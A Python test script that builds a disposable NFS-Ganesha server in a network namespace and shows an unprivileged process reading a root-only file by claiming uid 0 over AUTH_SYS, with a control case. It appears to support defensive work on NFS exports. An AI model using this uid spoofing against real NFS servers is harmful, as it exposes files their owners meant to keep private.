#!/usr/bin/python3
"""Demo of the AUTH_SYS hole against a throw-away ganesha (run as root):

    /usr/bin/python3 tests/ganesha_demo.py

(a) nfs-cat as root asserting uid 0 reads secret.txt (root:root 0600);
(b) nfs-cat run as uid/gid 1000 (setpriv) but asserting uid=0&gid=0 in the
    URL reads it too - the server trusts whatever uid the client claims;
(c) control: the same uid-1000 process asserting its real uid 1000 is denied.
Exit 0 only if (a) and (b) returned the secret.
"""

import os
import shutil
import subprocess
import sys
import tempfile
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from ganesha import GaneshaServer  # noqa: E402

UNPRIV = ["setpriv", "--reuid=1000", "--regid=1000", "--clear-groups"]


def run(label, argv):
    t = time.monotonic()
    r = subprocess.run(argv, stdin=subprocess.DEVNULL, capture_output=True,
                       timeout=30)
    dt = time.monotonic() - t
    print("[%6.3fs] %s: rc=%d stdout=%r stderr=%r" % (
        dt, label, r.returncode, r.stdout.decode(errors="replace").strip(),
        r.stderr.decode(errors="replace").strip()))
    return r


def main():
    if os.geteuid() != 0:
        print("must run as root", file=sys.stderr)
        return 2
    ns = "nfsg-demo-%d" % os.getpid()
    tmp = tempfile.mkdtemp(prefix="nfsguard-ganesha-")
    ok_a = ok_b = False
    t0 = time.monotonic()
    try:
        subprocess.run(["ip", "netns", "add", ns], check=True)
        subprocess.run(["ip", "-n", ns, "link", "set", "lo", "up"], check=True)
        print("[%6.3fs] netns %s + workdir %s created" % (
            time.monotonic() - t0, ns, tmp))

        srv = GaneshaServer(ns, tmp)
        with srv:
            tm = srv.timings
            print("[%6.3fs] ganesha pid %d ready: setup %.3fs, tcp accept "
                  "after %.3fs, root nfs-cat ok after %.3fs (start-to-ready)"
                  % (tm["setup"] + tm["ready"], srv.pid, tm["setup"],
                     tm["tcp_ready"], tm["ready"]))
            st = os.stat(srv.secret_path)
            print("         secret.txt uid=%d gid=%d mode=%o" % (
                st.st_uid, st.st_gid, st.st_mode & 0o7777))

            r = run("(a) root, uid=0", srv.netns_cmd(srv.nfs_cat_cmd(uid=0, gid=0)))
            ok_a = r.returncode == 0 and srv.matches_secret(r.stdout)

            r = run("(b) uid 1000 process, URL uid=0",
                    srv.netns_cmd(UNPRIV + srv.nfs_cat_cmd(uid=0, gid=0)))
            ok_b = r.returncode == 0 and srv.matches_secret(r.stdout)

            r = run("(c) control: uid 1000 process, URL uid=1000",
                    srv.netns_cmd(UNPRIV + srv.nfs_cat_cmd(uid=1000, gid=1000)))
            if srv.matches_secret(r.stdout):
                print("WARNING: control read returned the secret "
                      "(export is not protecting secret.txt at all)")
        print("[%6.3fs] ganesha stopped + workdir cleaned in %.3fs" % (
            time.monotonic() - t0, srv.timings.get("stop", -1)))
    finally:
        subprocess.run(["ip", "netns", "del", ns], stderr=subprocess.DEVNULL)
        shutil.rmtree(tmp, ignore_errors=True)
    print("[%6.3fs] total; (a) %s, (b) %s" % (
        time.monotonic() - t0, "SECRET READ" if ok_a else "FAILED",
        "SECRET READ (hole)" if ok_b else "FAILED"))
    return 0 if ok_a and ok_b else 1


if __name__ == "__main__":
    sys.exit(main())
